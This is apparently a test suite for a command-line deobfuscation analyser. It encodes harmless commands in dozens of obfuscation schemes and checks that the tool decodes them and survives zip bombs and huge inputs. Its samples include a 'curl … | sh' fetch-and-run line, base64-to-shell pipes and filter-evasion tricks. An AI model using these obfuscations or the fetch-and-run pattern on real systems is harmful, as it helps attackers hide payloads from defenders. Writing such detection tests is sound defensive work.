"""What holds for every text: spans point into their parents, nothing raises, and what was encoded is decoded."""

# ruff: noqa: E501 - samples are not broken in two

from __future__ import annotations

import base64
import bz2
import gzip
import html
import lzma
import time
import zlib
from collections.abc import Callable
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from perilune.analysis import Limits, analyze, commandline, detect, posix, powershell, windows
from perilune.analysis.interpreters import INTERPRETERS
from perilune.model.analysis import Analysis, walk
from tests.analysis.test_secure_strings import sealed

FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
PIECES = st.sampled_from(
    ["powershell", "-enc", "-c", "cmd", "/c", "bash", "'", '"', "`", "$(", ")", "|", "&&", ";", "^", "\\", "%a:~1,2%", "\n",
     "{", "}", "<<EOF\n", "<<<", "[char]", "-f", "-join", "'a'+'b'", "\\x41\\x42", "string.char(1,2)", "(", " ", "http://",
     "1.2.3.4", "base64 -d", "SQBFAFgA", "aGVsbG8gd29ybGQ=", "H4sIAAAAAAAA", "$a='x';", "iex", "eval", "[[", "]]", "\0",
     "\ud800", "\u202e", "é", "::", "@", "HKLM\\", "C:\\", "\\\\a\\b", ">", "2>&1", "0x41,", "%41%42%43", "&#65;&#66;&#67;",
     "sudo", "find . -exec", "xargs", "schtasks /tr", "lua -e", "python -c", "-bxor 3"]
)  # fmt: skip
TEXTS = st.one_of(
    st.text(max_size=300), st.lists(PIECES, max_size=40).map("".join), st.lists(PIECES, max_size=40).map(" ".join)
)
LANGUAGES = st.sampled_from(
    ["", "posix", "cmd", "powershell", *sorted({row.language for row in INTERPRETERS if row.language})]
)
WORDS = st.text(
    alphabet="abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ-./:=0123456789_", min_size=14, max_size=200
)
SIMPLE = WORDS.map(lambda text: "Get-Content " + text.strip() + " end")


def check(found: Analysis) -> None:
    for layer in found.layers[1:]:
        assert layer.parent is not None
        assert layer.parent < layer.number
        assert 0 <= layer.start <= layer.end <= len(found.layers[layer.parent].text)
    for one in walk(found.commands):
        assert 0 <= one.start <= one.end <= len(found.layers[one.layer].text)
        assert one.code is None or found.layers[one.code].number == one.code
    for indicator in found.indicators:
        assert 0 <= indicator.start < indicator.end <= len(found.layers[indicator.layer].text)
    for capability in found.capabilities:
        for sign in capability.signs:
            assert 0 <= sign.start <= sign.end <= len(found.layers[sign.layer].text)
    assert 0 <= found.score <= 100


@FAST
@given(TEXTS, LANGUAGES)
def test_analysing_never_raises_and_spans_point_into_their_parents(text: str, language: str) -> None:
    check(analyze(text, language=language))


@FAST
@given(TEXTS)
def test_words_stand_where_they_say(text: str) -> None:
    for split in (posix.split, windows.split, powershell.split):
        for segment in split(text):
            for word in segment.words:
                assert 0 <= word.start <= word.end <= len(text)
    commandline.parse(text, detect.language_of(text, "posix"))


@FAST
@given(st.lists(st.text(alphabet='ab "\\\t', max_size=12), min_size=1, max_size=5))
def test_windows_arguments_survive_the_usual_quoting(arguments: list[str]) -> None:
    import subprocess

    line = subprocess.list2cmdline(["x", *arguments])
    assert [word.text for word in windows.arguments(line)] == ["x", *arguments]


@FAST
@given(st.lists(st.text(alphabet="ab '\"\\$|;&\n*?", max_size=12), min_size=1, max_size=5))
def test_posix_words_survive_the_usual_quoting(arguments: list[str]) -> None:
    import shlex

    segments = posix.split(shlex.join(["x", *arguments]))
    assert [word.text for segment in segments for word in segment.words] == ["x", *arguments]


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _ps(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _xored(text: str) -> str:
    return _b64(bytes(byte ^ 0x5A for byte in text.encode()))


def _raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(data) + packer.flush()


def _codes(text: str, between: str = ",") -> str:
    return between.join(str(ord(char)) for char in text)


def _split(text: str, pieces: int = 4) -> list[str]:
    size = max(1, len(text) // pieces)
    return [text[at : at + size] for at in range(0, len(text), size)]


ENCODINGS: dict[str, Callable[[str], str]] = {
    "powershell -enc": lambda x: f"powershell -enc {_b64(x.encode('utf-16-le'))}",
    "base64": lambda x: f"x = '{_b64(x.encode())}'",
    "base64 for URLs": lambda x: f"x = '{base64.urlsafe_b64encode(x.encode()).decode()}'",
    "base64 without padding": lambda x: f"x = '{_b64(x.encode()).rstrip('=')}'",
    "base64 in lines": lambda x: base64.encodebytes(x.encode() * 3).decode(),
    "base64 in pieces": lambda x: "powershell -c " + "+".join(_ps(p) for p in _split(_b64(x.encode()))),
    "base64 backwards": lambda x: f"python3 -c \"print(b64decode('{_b64(x.encode())[::-1]}'[::-1]))\"",
    "base64 of UTF-16LE": lambda x: f"x = '{_b64(x.encode('utf-16-le'))}'",
    "base64 of UTF-16BE": lambda x: f"x = '{_b64(x.encode('utf-16-be'))}'",
    "base64 -d in a pipe": lambda x: f"echo {_b64(x.encode())} | base64 -d | sh",
    "hex": lambda x: f"x = '{x.encode().hex()}'",
    "hex with blanks": lambda x: f"x = '{x.encode().hex(' ')}'",
    "hex with 0x": lambda x: "x = " + ",".join(f"0x{byte:02x}" for byte in x.encode()),
    "hex escapes": lambda x: "printf '" + "".join(f"\\x{byte:02x}" for byte in x.encode()) + "'",
    "octal escapes": lambda x: "printf '" + "".join(f"\\{byte:03o}" for byte in x.encode()) + "'",
    "binary digits": lambda x: "x = " + " ".join(f"{byte:08b}" for byte in x.encode()),
    "decimal array": lambda x: f"x = ({_codes(x)})",
    "PowerShell [char[]]": lambda x: f"powershell -c -join([char[]]({_codes(x)}))",
    "PowerShell char sum": lambda x: "powershell -c " + "+".join(f"[char]{ord(c)}" for c in x),
    "PowerShell mapped": lambda x: f"powershell -c -join(({_codes(x)})|%{{[char]$_}})",
    "PowerShell split and mapped": lambda x: f"powershell -c -join('{_codes(x, '_')}'.split('_')|%{{[char][int]$_}})",
    "PowerShell mapped with -bxor": lambda x: f"powershell -c -join(({','.join(str(ord(c) ^ 7) for c in x)})|%{{[char]($_ -bxor 7)}})",
    "PowerShell sum": lambda x: "powershell -c " + "+".join(_ps(p) for p in _split(x)),
    "PowerShell -f": lambda x: f"powershell -c ('{{1}}{{0}}' -f {_ps(x[5:])},{_ps(x[:5])})",
    "PowerShell -replace": lambda x: f"powershell -c {_ps(x.replace('n', 'QQ7'))} -replace 'QQ7','n'",
    "PowerShell -replace with an expression": lambda x: f"powershell -c {_ps('~7~'.join(x))} -replace '~\\d~',''",
    "PowerShell -replace with groups": lambda x: f"powershell -c {_ps(x[3:] + '#' + x[:3])} -replace '^(.*)#(.*)$','$2$1'",
    "[regex]::Replace": lambda x: f"powershell -c \"iex ([regex]::Replace({_ps('@@'.join(x))},'@+',''))\"",
    "PowerShell -split and -join": lambda x: f"powershell -c ({_ps('~'.join(x))} -split '~') -join ''",
    "SecureString with its key": lambda x: f"powershell -c \"'{sealed(x, bytes(range(16)))}'|ConvertTo-SecureString -k (0..15)\"",
    "cmd slices": lambda x: f"cmd /V /C \"set q={x}&&call %q:~0,5%%q:~5,6%%q:~11%\"",
    "cmd replacement": lambda x: f"cmd /V /C \"set q={x.replace('n', '@@')}&&call !q:@@=n!\"",
    "cmd variables": lambda x: f"cmd /V /C \"set a={x[:7]}&&set b={x[7:]}&&call !a!!b!\"",
    "cmd letters picked in a loop": lambda x: f"cmd /V /C \"set q={x[::-1]}&&for /L %a in ({len(x) - 1},-1,0) do set f=!f!!q:~%a,1!&&if %a==0 call %f:~-{len(x)}%\"",
    "cmd for /f over echo": lambda x: f"cmd /c \"for /f \"tokens=*\" %a in ('echo {x}') do %a\"",
    "cmd carets": lambda x: "cmd /c " + "".join(f"^{c}" if c.isalnum() else c for c in x),
    "PowerShell .Replace": lambda x: f"powershell -c {_ps(x.replace('n', 'QQ7'))}.Replace('QQ7','n')",
    "PowerShell -join": lambda x: f"powershell -c -join({','.join(_ps(p) for p in _split(x))})",
    "PowerShell backwards": lambda x: f"powershell -c ({_ps(x[::-1])}[-1..-{len(x)}]-join'')",
    "JavaScript fromCharCode": lambda x: f'node -e "eval(String.fromCharCode({_codes(x)}))"',
    "JavaScript backwards": lambda x: f"node -e \"eval('{x[::-1]}'.split('').reverse().join(''))\"",
    "JavaScript sum": lambda x: 'node -e "eval(' + "+".join(f"'{p}'" for p in _split(x)) + ')"',
    "JavaScript unicode": lambda x: "node -e \"eval('" + "".join(f"\\u{ord(c):04x}" for c in x) + "')\"",
    "Python chr": lambda x: f"python3 -c \"exec(''.join(map(chr,[{_codes(x)}])))\"",
    "Python backwards": lambda x: f"python3 -c \"exec('{x[::-1]}'[::-1])\"",
    "Python neighbours": lambda x: 'python3 -c "exec(' + " ".join(f"'{p}'" for p in _split(x)) + ')"',
    "Python ROT13": lambda x: f"python3 -c \"exec(codecs.decode('{_rot13(x)}','rot13'))\"",
    "Python fromhex": lambda x: f"python3 -c \"exec(bytes.fromhex('{x.encode().hex()}'))\"",
    "PHP strrev": lambda x: f"php -r \"eval(strrev('{x[::-1]}'));\"",
    "PHP dots": lambda x: 'php -r "eval(' + ".".join(f"'{p}'" for p in _split(x)) + ');"',
    "PHP chr": lambda x: 'php -r "eval(' + ".".join(f"chr({ord(c)})" for c in x) + ');"',
    "Ruby pack": lambda x: f"ruby -e \"eval([{_codes(x)}].pack('c*'))\"",
    "Perl pack": lambda x: f"perl -e \"eval pack('C*',{_codes(x)})\"",
    "VBScript Chr": lambda x: "mshta vbscript:Execute(" + "&".join(f"Chr({ord(c)})" for c in x) + ")",
    "VBScript StrReverse": lambda x: f'mshta vbscript:Execute(StrReverse("{x[::-1]}"))',
    "VBScript sum": lambda x: "mshta vbscript:Execute(" + "&".join(f'"{p}"' for p in _split(x)) + ")",
    "Perl dots": lambda x: 'perl -e "eval(' + ".".join(f"'{p}'" for p in _split(x)) + ')"',
    "Ruby sum": lambda x: 'ruby -e "eval(' + "+".join(f"'{p}'" for p in _split(x)) + ')"',
    "Ruby backwards": lambda x: f"ruby -e \"eval('{x[::-1]}'.reverse)\"",
    "Perl backwards": lambda x: f"perl -e \"eval reverse('{x[::-1]}')\"",
    "Lua octets in a table": lambda x: f'lua -e "load(string.char(table.unpack({{{_codes(x)}}})))()"',
    "Lua decimal escapes": lambda x: "lua -e \"load('" + "".join(f"\\{ord(c):03d}" for c in x) + "')()\"",
    "Lua hex escapes": lambda x: "lua -e \"load('" + "".join(f"\\x{ord(c):02x}" for c in x) + "')()\"",
    "Lua string.char": lambda x: f'lua -e "load(string.char({_codes(x)}))()"',
    "Lua reverse": lambda x: f"lua -e \"load(('{x[::-1]}'):reverse())()\"",
    "Lua dots": lambda x: 'lua -e "load(' + "..".join(f"'{p}'" for p in _split(x)) + ')()"',
    "Lua gsub map": lambda x: f"lua -e \"load(('{x.replace('n', '!')}'):gsub('.',{{['!']='n'}}))()\"",
    "base64 written in Lua": lambda x: f"lua -e \"local b='{STANDARD}' local d=dec('{_b64(x.encode())}') load(d)()\"",
    "base64 with its own alphabet": lambda x: f"b='{STANDARD[::-1]}' d='{_b64(x.encode()).translate(BACKWARDS)}'",
    "gzip": lambda x: f"x('{_b64(gzip.compress(x.encode()))}')",
    "zlib": lambda x: f"x('{_b64(zlib.compress(x.encode()))}')",
    "deflate": lambda x: f"DeflateStream('{_b64(_raw_deflate(x.encode()))}')",
    "bzip2": lambda x: f"x('{_b64(bz2.compress(x.encode()))}')",
    "xz": lambda x: f"x('{_b64(lzma.compress(x.encode()))}')",
    "XOR": lambda x: f"$k=0x5a;$b=[Convert]::FromBase64String('{_xored(x)}');$b|%{{$_ -bxor 0x5a}}",
    "ROT13 in a pipe": lambda x: f"echo '{_rot13(x)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    "rev in a pipe": lambda x: f"echo '{x[::-1]}' | rev | sh",
    "xxd in a pipe": lambda x: f"echo {x.encode().hex()} | xxd -r -p | sh",
    "URL escapes": lambda x: "x " + "".join(f"%{byte:02x}" for byte in x.encode()),
    "HTML escapes": lambda x: "x " + "".join(f"&#{ord(c)};" for c in x),
    "HTML hex escapes": lambda x: "x " + "".join(f"&#x{ord(c):x};" for c in x),
    "unicode escapes": lambda x: "x " + "".join(f"\\u{ord(c):04x}" for c in x),
    "$'…'": lambda x: "sh -c $'" + "".join(f"\\x{ord(c):02x}" for c in x) + "'",
    "sh slices": lambda x: f"#!/bin/sh\nq='{x}'; eval \"${{q:0:5}}${{q:5:6}}${{q:11}}\"",
    "sh variables": lambda x: f"#!/bin/sh\na='{x[:7]}'; b='{x[7:]}'; eval \"$a$b\"",
    "gunzip in a pipe": lambda x: f"echo {_b64(gzip.compress(x.encode()))} | base64 -d | gunzip | bash",
    "two in a pipe": lambda x: f"echo {_b64(x.encode())[::-1]} | rev | base64 --decode | bash",
    "printf in a pipe": lambda x: "printf '" + "".join(f"\\{ord(c):03o}" for c in x) + "' | sh",
    "openssl in a pipe": lambda x: f"echo {_b64(x.encode())} | openssl base64 -d -A | sh",
    "$(printf …)": lambda x: "sh -c \"$(printf '" + "".join(f"\\x{ord(c):02x}" for c in x) + "')\"",
}  # fmt: skip
STANDARD = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
BACKWARDS = str.maketrans(STANDARD, STANDARD[::-1])


def _rot13(text: str) -> str:
    import codecs

    return codecs.encode(text, "rot13")


@pytest.mark.parametrize("name", ENCODINGS)
@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=SIMPLE)
def test_what_was_encoded_is_decoded(name: str, text: str) -> None:
    text = " ".join(text.split())
    found = analyze(ENCODINGS[name](text))
    check(found)
    assert any(text in layer.text for layer in found.layers[1:]), [(x.kind, x.text) for x in found.layers]


SPLIT = {
    "carets": ("cmd /c p^ow^er^sh^ell -c Get-Date", "powershell -c"),
    "backticks": ('powershell -c "I`E`X `$x; G`et-`Da`te"', "Get-Date"),
    "slices": ("cmd /c %COMSPEC:~-7,3% /c dir", "cmd /c dir"),
    "delayed": ('cmd /V:ON /C "set x=cal&&!x!c"', "calc"),
    "IFS": ("cat${IFS}/etc/hosts", "cat /etc/hosts"),
    "braces": ("{cat,/etc/hosts}", "cat /etc/hosts"),
    "globs": ("/???/b??h -c id", "/bin/bash -c id"),
    "quotes": ("c''u''rl http://203.0.113.1", "curl http"),
    "cmd quotes": ('cmd /c p"ow"er"sh"ell -c dir', "powershell -c dir"),
    "empty": ("wh$@oami", "whoami"),
    "variables": ("a=cu;b=rl;$a$b x", "curl x"),
}


@pytest.mark.parametrize("name", SPLIT)
def test_what_was_cut_up_is_put_together(name: str) -> None:
    written, plain = SPLIT[name]
    assert any(plain in layer.text for layer in analyze(written).layers[1:])


@pytest.mark.parametrize("escape", [html.escape, quote])
def test_ordinary_escapes_are_no_encoding(escape: Callable[[str], str]) -> None:
    found = analyze("curl " + escape("https://www.example.net/?q=a b&c=d"))
    assert len(found.layers) == 1


def nested(times: int) -> str:
    text = "whoami"
    for _ in range(times):
        text = f"powershell -e {_b64(text.encode('utf-16-le'))}"
    return text


def test_nested_encodings_are_peeled_to_the_bottom() -> None:
    found = analyze(nested(6))
    assert found.layers[-1].text == "whoami"
    assert not found.cut


def test_a_budget_cuts_and_says_so() -> None:
    found = analyze(nested(6), limits=Limits(depth=3))
    assert len(found.layers) == 4
    assert found.cut


def _bomb() -> str:
    packer = zlib.compressobj(wbits=31)
    data = b"".join([*(packer.compress(b"A" * 1_000_000) for _ in range(100)), packer.flush()])
    return f"powershell -c \"[Convert]::FromBase64String('{_b64(data)}')\""


HOSTILE = {
    "nested encodings": lambda: (nested(4) + " ") * 200,
    "zip bomb": _bomb,
    "open quotes": lambda: '"' * 10_000_000,
    "open parentheses": lambda: "$(" * 5_000_000,
    "dots": lambda: "a." * 5_000_000,
    "ats": lambda: "a@" * 5_000_000,
    "URLs": lambda: "http://" * 1_500_000,
    "sums": lambda: "powershell -c \"'a'" + "+'a'" * 2_500_000,
    "backslashes": lambda: "\\" * 10_000_000,
    "numbers": lambda: "1," * 5_000_000,
    "base64": lambda: "QUFB" * 2_500_000,
    "commands": lambda: "cmd /c " * 1_400_000,
    "long brackets": lambda: "lua -e [[" + "[[a" * 3_000_000,
    "unicode escapes": lambda: "\\u0041" * 1_600_000,
    "one word of slashes": lambda: "a/" * 5_000_000,
    "echoes": lambda: "echo " * 2_000_000,
    "evals": lambda: "eval " * 2_000_000,
    "NUL": lambda: "\0" * 10_000_000,
    "here-documents": lambda: "<<A\n" * 2_500_000,
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_ten_hostile_megabytes_end_inside_the_budget(name: str) -> None:
    text = HOSTILE[name]()
    before = time.process_time()
    found = analyze(text)
    assert time.process_time() - before < 20, "CPU seconds; about two on an idle machine"
    check(found)
    assert found.work <= Limits().work
    assert found.cut or len(text) < 1_000_000


def test_the_same_text_gives_the_same_analysis() -> None:
    text = nested(3) + "; curl http://203.0.113.1/a | sh"
    assert analyze(text) == analyze(text)
